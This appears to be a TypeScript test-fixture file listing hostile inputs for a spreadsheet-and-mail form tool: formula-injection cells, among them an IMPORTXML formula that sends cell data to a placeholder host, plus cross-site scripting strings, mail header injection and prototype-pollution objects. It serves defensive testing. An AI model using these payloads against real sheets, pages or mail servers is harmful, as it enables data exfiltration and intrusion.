/**
 * What people type, and programs send, to do harm. Collected from reports on spreadsheet formulas in forms (CSV injection), cross-site scripting, mail header
 * injection and prototype pollution; each case is one that has hurt somebody's tool.
 */

/** Answers that must stand in the sheet as typed, be text in pages and mails, and execute nowhere; by what they aim at. */
export const HOSTILE_GROUPS: Readonly<Record<'cells' | 'pages' | 'templates' | 'mails', readonly string[]>> = {
  cells: ['=IMPORTXML("https://e.x/?"&A2,"//a")', '+1+1', '\t=1+1', ' =1+1', "'=1+1", '-2+3', '@SUM(1;2)'],
  pages: [
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    '</script><script>alert(1)</script>',
    'javascript:alert(1)',
    'one\u2028two\u2029three',
    '__proto__',
    'constructor',
    'toString',
    '‮right to left‬',
  ],
  templates: ['{{Reference}}', '{{email}}', '{{#each}} {{/if}}', "$& $1 $$ $` $'"],
  mails: ['Subject\r\nBcc: all@x.be\r\n\r\n<b>body</b>', 'a\tb\nc"e""f,g;h', 'é'.repeat(49_990)],
};

export const HOSTILE_TEXTS: readonly string[] = Object.values(HOSTILE_GROUPS).flat();

/** Answers that Google's own tab reads as something else, before any script sees them: they must come through as that tab shows them. */
export const READ_BY_SHEETS: readonly string[] = ['+32 470 12 34 56', '007', '1/2', '1E5', 'TRUE', '10:30'];

/** Addresses that are none, or more than one. */
export const HOSTILE_ADDRESSES: readonly string[] = [
  'a@x.be\r\nBcc: all@x.be',
  'a@x.be,b@x.be',
  'a@x.be;b@x.be',
  ' ',
  'a b@x.be',
  '"Anna" <a@x.be>',
  'nobody',
];

/** What a page of ours never sends, for any argument. */
export const HOSTILE_ARGUMENTS: readonly unknown[] = [
  null,
  -1,
  1e9,
  Number.NaN,
  '2',
  '=1+1',
  [],
  [1, 2],
  {},
  JSON.parse('{"__proto__": {"polluted": true}, "constructor": {"prototype": {"polluted": true}}}'),
  {reference: '__proto__', reason: 'x'},
  {reference: 'S27-0001', reason: {toString: 'x'}},
  {reference: 'S27-0001', basis: '', marks: {CV: 11, Addendum: -1}, comment: ''},
  {reference: 'S27-0001', basis: '', marks: {CV: '9abc', Addendum: '9,5'}, comment: ''},
  {text: 'x'.repeat(5_000), who: '', action: '', before: null},
  'x'.repeat(100_000),
];
